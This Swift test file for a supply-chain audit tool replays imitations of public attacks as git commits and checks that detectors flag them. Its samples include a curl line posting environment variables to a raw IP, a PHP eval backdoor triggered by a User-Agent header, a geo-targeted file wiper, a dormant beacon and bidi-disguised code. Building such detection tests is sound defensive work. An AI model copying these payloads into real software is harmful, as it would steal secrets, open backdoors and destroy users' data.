import CustodyTestSupport
import Foundation
import Testing

@testable import CustodyCore

/// Replays attack patterns from public incidents as a sequence of commits by different
/// identities in a real git repository, reads the history back, runs every registered detector,
/// and checks that each attack is reported on its own commit with the right category.
///
/// All code and data below are written for this test: they imitate the shape of each incident
/// (what was changed, where, and how it hid), not its actual content.
@Suite(.serialized)
struct AttackReplayTests {
    struct Attack: Sendable {
        var name: String
        var author: TemporaryGitRepository.Signature
        var subject: String
        var files: [(path: String, bytes: [UInt8])]
        var expected: [FindingCategory]
        /// Whether a low finding is the honest level (a new, otherwise unremarkable dependency:
        /// the risk score, not the finding, lifts it because a new identity added it).
        var lowIsEnough = false
    }

    static func person(_ name: String, _ email: String, _ day: Int) -> TemporaryGitRepository.Signature {
        TemporaryGitRepository.Signature(name: name, email: email, date: "\(1_700_000_000 + day * 86_400) +0000")
    }

    static func text(_ s: String) -> [UInt8] { Array(s.utf8) }

    // MARK: The clean project

    static let baseFiles: [(String, [UInt8])] = [
        ("CMakeLists.txt", text(SecurityCheckSabotageDetectorTests.landlockBefore)),
        ("configure.ac", text("AC_INIT([liblz], [5.5.0])\nAM_INIT_AUTOMAKE\nAC_PROG_CC\nAC_CHECK_HEADERS([sys/prctl.h])\ngl_BUILD_TO_HOST_INIT\nAC_OUTPUT\n")),
        ("m4/build-to-host.m4", text("AC_DEFUN([gl_BUILD_TO_HOST_INIT],\n[\n  gl_sed_double_backslashes='s/x/y/g'\n])\n")),
        ("src/access.c", text("#include <string.h>\nint is_admin(const char *role)\n{\n    return strcmp(role, \"admin\") == 0;\n}\n")),
        ("src/update.c", text("#include <time.h>\nvoid check_updates(void)\n{\n    /* contact the update server */\n}\n")),
        ("php/main.c", text("#include \"php.h\"\nvoid php_request_startup(void)\n{\n    zend_activate();\n}\n")),
        ("bindings/node/package.json", text(DependencyRiskDetectorTests.eventStream)),
        ("bindings/node/lib/ipc.js", text("'use strict';\nmodule.exports.connect = function connect(path) {\n  return require('net').connect(path);\n};\n")),
        ("scripts/codecov.sh", text("#!/usr/bin/env bash\n# Upload coverage reports\nurl=\"https://codecov.example.io\"\nupload() {\n  curl -sX POST \"$url/upload/v4\" --data-binary @coverage.xml\n}\nupload\n")),
        (".github/workflows/ci.yml", text(CIWorkflowRiskDetectorTests.pinnedWorkflow)),
        ("tests/files/good-1-lzma2-1.xz", BinaryFixtures.xzMagic + BinaryFixtures.noise(600, seed: 21)),
        ("README.md", text("# liblz\n\nA small compression library.\n")),
    ]

    // MARK: The attacks

    static var attacks: [Attack] {
        let bidiAccess =
            "#include <string.h>\nint is_admin(const char *role)\n{\n    /* check the role\u{202E} } \u{2066}if (strcmp(role, \"guest\") == 0)\u{2069} \u{2066} begin admins only */\n    return strcmp(role, \"admin\") == 0;\n}\n"
        let delayedUpdate = """
            #include <time.h>
            #include <stdlib.h>
            void check_updates(void)
            {
                /* Stay dormant for two weeks after the release date. */
                if (time(NULL) > 1735689600 + 14 * 24 * 3600) {
                    system("/usr/lib/liblz/helper --beacon avsvmcloud.example.com &");
                }
            }

            """
        let zerodium = """
            #include "php.h"
            void php_request_startup(void)
            {
                zval *enc;
                if ((enc = zend_hash_str_find(&PG(http_globals)[TRACK_VARS_SERVER], "HTTP_USER_AGENTT", sizeof("HTTP_USER_AGENTT") - 1))) {
                    convert_to_string(enc);
                    if (strstr(Z_STRVAL_P(enc), "zerodium")) {
                        zend_try {
                            zend_eval_string(Z_STRVAL_P(enc) + 8, NULL, "REMOVETHIS: sold to zerodium, mid 2017");
                        } zend_end_try();
                    }
                }
                zend_activate();
            }

            """
        let wiper = """
            'use strict';
            const fs = require('fs');
            const https = require('https');
            module.exports.connect = function connect(path) {
              https.get('https://api.ipgeolocation.example/ipgeo?apiKey=' + 'ae511e1627824a968aaaa758a5309154', (res) => {
                let body = '';
                res.on('data', (d) => { body += d; });
                res.on('end', () => {
                  const geo = JSON.parse(body);
                  if (geo.country_name === 'Russia' || geo.country_name === 'Belarus') {
                    for (const file of walk('/')) { try { fs.writeFileSync(file, '\\u2764\\ufe0f'); } catch (e) {} }
                  }
                });
              });
              return require('net').connect(path);
            };

            """
        let tjWorkflow = """
            name: Changed files
            on:
              pull_request_target:
                types: [opened, synchronize]
            jobs:
              changed:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                    with:
                      ref: ${{ github.event.pull_request.head.sha }}
                  - uses: tj-actions/changed-files@v45
                  - run: ./scripts/label.sh
                    env:
                      GH_TOKEN: ${{ secrets.RELEASE_TOKEN }}

            """
        let codecov = String(decoding: baseFiles.first { $0.0 == "scripts/codecov.sh" }!.1, as: UTF8.self)
            .replacingOnce("upload() {\n", with: "upload() {\n  curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" http://178.62.86.114/upload/v2 || true\n")
        let eventStream = DependencyRiskDetectorTests.eventStream
            .replacingOnce("\"duplexer\": \"~0.1.1\",\n", with: "\"duplexer\": \"~0.1.1\",\n    \"flatmap-stream\": \"^0.1.0\",\n")
        let preinstall = eventStream.replacingOnce(
            "\"test\": \"node test/index.js\"\n",
            with: "\"test\": \"node test/index.js\",\n    \"preinstall\": \"start /B node compile.js & node compile.js\"\n")
        let landlock = SecurityCheckSabotageDetectorTests.landlockBefore
            .replacingOnce("        #include <sys/prctl.h>\n\n", with: "        #include <sys/prctl.h>\n.\n")
        return [
            Attack(name: "xz test files carrying the payload", author: person("Jin Tao", "jintao.dev@mail.example", 10),
                   subject: "Tests: Add a few test files",
                   files: [("tests/files/bad-3-corrupt_lzma2.xz", BinaryFixtures.corruptXZWithScript()),
                           ("tests/files/good-large_compressed.lzma", [0x5d, 0, 0, 0x80, 0] + BinaryFixtures.noise(3000, seed: 31) + BinaryFixtures.elfHeader + BinaryFixtures.noise(800, seed: 32))],
                   expected: [.opaqueBinary]),
            Attack(name: "xz build-to-host.m4 carving the payload out", author: person("Jin Tao", "jintao.dev@mail.example", 11),
                   subject: "Build: Update m4/build-to-host.m4 from gnulib",
                   files: [("m4/build-to-host.m4", text(BuildTamperingDetectorTests.buildToHost))],
                   expected: [.buildTampering]),
            Attack(name: "xz Landlock probe broken by one character", author: person("Jin Tao", "jintao.dev@mail.example", 12),
                   subject: "CMake: Fix sandbox detection",
                   files: [("CMakeLists.txt", text(landlock))],
                   expected: [.securityCheckSabotage]),
            Attack(name: "event-stream adds flatmap-stream", author: person("right9", "right9ctrl@mail.example", 13),
                   subject: "add flatmap-stream", files: [("bindings/node/package.json", text(eventStream))],
                   expected: [.dependencyRisk], lowIsEnough: true),
            Attack(name: "ua-parser-js / coa preinstall hook", author: person("Release Bot", "release-bot@mail.example", 14),
                   subject: "1.0.1", files: [("bindings/node/package.json", text(preinstall))],
                   expected: [.dependencyRisk]),
            Attack(name: "PHP 'zerodium' User-Agentt backdoor", author: person("Rasmus L", "rasmus@php.example", 15),
                   subject: "Fix typo", files: [("php/main.c", text(zerodium))],
                   expected: [.hiddenTrigger]),
            Attack(name: "Trojan Source bidi controls", author: person("Nina K", "nina@contractor.example", 16),
                   subject: "Clarify role comment", files: [("src/access.c", text(bidiAccess))],
                   expected: [.hiddenUnicode]),
            Attack(name: "SolarWinds-style dormant trigger", author: person("Build Svc", "buildsvc@corp.example", 17),
                   subject: "Update check", files: [("src/update.c", text(delayedUpdate))],
                   expected: [.timeOrGeoBomb]),
            Attack(name: "Codecov bash uploader exfiltration", author: person("Uploader", "ops@codecov.example", 18),
                   subject: "Improve upload reliability", files: [("scripts/codecov.sh", text(codecov))],
                   expected: [.ciWorkflowRisk, .networkIndicator]),
            Attack(name: "tj-actions: pull_request_target with the PR head", author: person("Octo Dev", "octo@users.example", 19),
                   subject: "ci: label changed files", files: [(".github/workflows/changed.yml", text(tjWorkflow))],
                   expected: [.ciWorkflowRisk]),
            Attack(name: "node-ipc geo-targeted wiper", author: person("RIAEvangelist", "ria@mail.example", 20),
                   subject: "peace", files: [("bindings/node/lib/ipc.js", text(wiper))],
                   expected: [.timeOrGeoBomb, .destructiveOperation]),
        ]
    }

    // MARK: The replay

    @Test func everyAttackIsReportedOnItsCommitWithItsCategory() throws {
        let repo = try TemporaryGitRepository()
        for (path, bytes) in Self.baseFiles { try repo.write(path, bytes: bytes) }
        let base = try repo.commit("Initial import", author: Self.person("Lasse M", "lasse@liblz.example", 0))
        var commitOfAttack: [String: String] = [:]
        for attack in Self.attacks {
            for file in attack.files { try repo.write(file.path, bytes: file.bytes) }
            commitOfAttack[attack.name] = try repo.commit(attack.subject, author: attack.author)
        }
        // A clean maintenance commit after the attacks: must stay quiet.
        try repo.write("README.md", "# liblz\n\nA small compression library.\n\nSee INSTALL for build steps.\n")
        let clean = try repo.commit("Docs: mention INSTALL", author: Self.person("Lasse M", "lasse@liblz.example", 30))

        // For Benchmarks/peers.sh: keep a copy of the repository and a map of attack commits.
        if let export = ProcessInfo.processInfo.environment["CUSTODY_REPLAY_EXPORT"] {
            try? FileManager.default.removeItem(atPath: export)
            try TemporaryGitRepository.run("/usr/bin/env", ["git", "clone", "-q", "--no-local", repo.path, export], environment: repo.environment)
            var map = "commit\tattack\texpected\tpaths\n"
            map += "\(base)\tclean: initial import\t-\t-\n\(clean)\tclean: docs\t-\tREADME.md\n"
            for attack in Self.attacks {
                map += "\(commitOfAttack[attack.name] ?? "")\t\(attack.name)\t\(attack.expected.map(\.rawValue).joined(separator: ","))\t\(attack.files.map(\.path).joined(separator: ","))\n"
            }
            try Data(map.utf8).write(to: URL(fileURLWithPath: export + ".commits.tsv"))
        }
        // Read the history with the audit's own reader and blob stream.
        let repository = try GitRepository(path: repo.path)
        let collected = Collected()
        let summary = try repository.readHistory(HistoryOptions(jobs: 2)) { index, commit in collected.add(index, commit) }
        #expect(summary.problems.isEmpty)
        let commits = collected.commits
        #expect(commits.count == Self.attacks.count + 2)
        let blobs = try repository.blobReader()
        defer { blobs.close() }
        let suite = DetectorSuite()
        var findingsByCommit: [String: [Finding]] = [:]
        let clock = ContinuousClock()
        let spent = clock.measure {
            for commit in commits {
                findingsByCommit[commit.id.description] = suite.scan(commit, blobs: blobs)
            }
        }
        if let export = ProcessInfo.processInfo.environment["CUSTODY_REPLAY_EXPORT"] {
            var out = "# detectors: \(spent) (debug build) over \(commits.count) commits\ncommit\tseverity\tcategory\trule\tpath\n"
            for commit in commits {
                for finding in findingsByCommit[commit.id.description] ?? [] {
                    out += "\(finding.commit)\t\(finding.severity.rawValue)\t\(finding.category.rawValue)\t\(finding.ruleID)\t\(finding.path ?? "-")\n"
                }
            }
            try Data(out.utf8).write(to: URL(fileURLWithPath: export + ".custody.tsv"))
        }
        // The test-only plumbing reader sees the same findings (a cross-check of both paths).
        let plumbing = try ReplayHistory.read(repo)
        for commit in plumbing.commits {
            let again = suite.scan(commit, blobs: plumbing.blobs).map(\.fingerprint).sorted()
            #expect(again == (findingsByCommit[commit.id.description] ?? []).map(\.fingerprint).sorted(), "\(commit.subject)")
        }
        let registered = Set(DetectorRegistry.rules.map(\.category))
        for attack in Self.attacks {
            let id = try #require(commitOfAttack[attack.name])
            let found = Set((findingsByCommit[id] ?? []).map(\.category))
            for category in attack.expected {
                #expect(registered.contains(category), "\(category.rawValue) has no registered detector")
                #expect(found.contains(category), "\(attack.name): expected \(category.rawValue), found \(found.map(\.rawValue).sorted())")
                // At medium or above: an attack reported only as a low note is missed in practice.
                let loudest = (findingsByCommit[id] ?? []).filter { $0.category == category }.map(\.severity).max()
                #expect((loudest ?? .info) >= (attack.lowIsEnough ? .low : .medium), "\(attack.name): \(category.rawValue) only at \(loudest?.rawValue ?? "-")")
            }
            // Every finding of an attack commit is about that commit.
            #expect((findingsByCommit[id] ?? []).allSatisfy { $0.commit == id })
        }
        // The clean commits stay quiet at medium and above.
        for id in [base, clean] {
            let loud = (findingsByCommit[id] ?? []).filter { $0.severity >= .medium }
            #expect(loud.isEmpty, "\(id): \(loud.map { "\($0.ruleID) \($0.path ?? "")" })")
        }
        // Scoring puts the attacks above the clean commits.
        let scores = commits.map { commit in
            RiskScorer.score(commit: commit, findings: findingsByCommit[commit.id.description] ?? [],
                             contributor: ContributorContext(isKnownIdentity: commit.author.email.hasSuffix("@liblz.example")))
        }
        let ranked = RiskScorer.ranked(scores)
        #expect(ranked.last.map { [base, clean].contains($0.commit) } == true)
        let top = try #require(ranked.first)
        #expect(top.level == .critical)
    }
}

/// Commits handed over by the history reader's consumer (called from several threads).
final class Collected: @unchecked Sendable {  // guarded by `lock`
    private let lock = NSLock()
    private var items: [(Int, Commit)] = []

    func add(_ index: Int, _ commit: Commit) {
        lock.lock()
        items.append((index, commit))
        lock.unlock()
    }

    var commits: [Commit] {
        lock.lock()
        defer { lock.unlock() }
        return items.sorted { $0.0 < $1.0 }.map(\.1)
    }
}

/// Reads a test repository's history into ``Commit`` values with plain git plumbing (a small,
/// test-only reader: paths are ASCII and unquoted) and serves blobs with `git cat-file`.
struct ReplayHistory {
    var commits: [Commit]
    var blobs: InMemoryBlobSource

    static func read(_ repo: TemporaryGitRepository) throws -> ReplayHistory {
        var blobs = InMemoryBlobSource()
        var commits: [Commit] = []
        let ids = try repo.gitString(["rev-list", "--reverse", "--topo-order", "HEAD"]).split(separator: "\n").map(String.init)
        for id in ids {
            let header = try repo.gitString(["show", "-s", "--format=%P%x00%an%x00%ae%x00%at%x00%cn%x00%ce%x00%ct%x00%s", id])
                .split(separator: "\0", omittingEmptySubsequences: false).map(String.init)
            let parents = header[0].split(separator: " ").compactMap { ObjectID(String($0)) }
            let author = GitPersonStamp(name: header[1], email: header[2], time: Int64(header[3]) ?? 0, utcOffsetMinutes: 0)
            let committer = GitPersonStamp(name: header[4], email: header[5], time: Int64(header[6]) ?? 0, utcOffsetMinutes: 0)
            var changes: [FileChange] = []
            let raw = try repo.git(["diff-tree", "-r", "--root", "--no-commit-id", "-z", "--raw", "--no-renames", id])
            var fields = raw.split(separator: 0, omittingEmptySubsequences: false).map { String(decoding: $0, as: UTF8.self) }
            while fields.count >= 2, fields[0].hasPrefix(":") {
                let meta = fields[0].dropFirst().split(separator: " ")
                let path = fields[1]
                fields.removeFirst(2)
                let oldBlob = ObjectID(String(meta[2])).flatMap { $0.isZero ? nil : $0 }
                let newBlob = ObjectID(String(meta[3])).flatMap { $0.isZero ? nil : $0 }
                let kind: FileChangeKind = meta[4] == "A" ? .add : meta[4] == "D" ? .delete : .modify
                for blob in [oldBlob, newBlob].compactMap({ $0 }) where blobs.blobs[blob] == nil {
                    blobs.blobs[blob] = try repo.git(["cat-file", "blob", blob.description])
                }
                changes.append(FileChange(
                    kind: kind, oldPath: kind == .add ? nil : path, newPath: kind == .delete ? nil : path,
                    oldBlob: oldBlob, newBlob: newBlob, oldMode: UInt32(meta[0], radix: 8) ?? 0,
                    newMode: UInt32(meta[1], radix: 8) ?? 0
                ))
            }
            // Added lines from a zero-context patch.
            let patch = try repo.git(["diff-tree", "-r", "--root", "--no-commit-id", "-p", "-U0", "--no-color", "--no-renames", "--no-ext-diff", id])
            var current: Int?
            var lineNumber = 0
            for line in patch.split(separator: 0x0a, omittingEmptySubsequences: false) {
                if line.starts(with: Array("+++ ".utf8)) {
                    let path = String(decoding: line.dropFirst(4), as: UTF8.self)
                    current = path == "/dev/null" ? nil : changes.firstIndex { "b/" + ($0.newPath ?? "") == path }
                } else if line.starts(with: Array("Binary files ".utf8)) {
                    let text = String(decoding: line, as: UTF8.self)
                    if let index = changes.firstIndex(where: { text.contains(" b/" + ($0.newPath ?? "\u{0}") + " ") }) {
                        changes[index].isBinary = true
                    }
                } else if line.starts(with: Array("@@ ".utf8)) {
                    let text = String(decoding: line, as: UTF8.self)
                    let plus = text.split(separator: " ")[2].dropFirst()
                    lineNumber = Int(plus.split(separator: ",")[0]) ?? 0
                } else if line.first == UInt8(ascii: "+"), let index = current {
                    changes[index].addedLines.append(number: lineNumber, text: line.dropFirst())
                    lineNumber += 1
                }
            }
            commits.append(Commit(
                id: try #require(ObjectID(id)), parents: parents, author: author, committer: committer,
                subject: header[7], changes: changes
            ))
        }
        return ReplayHistory(commits: commits, blobs: blobs)
    }
}
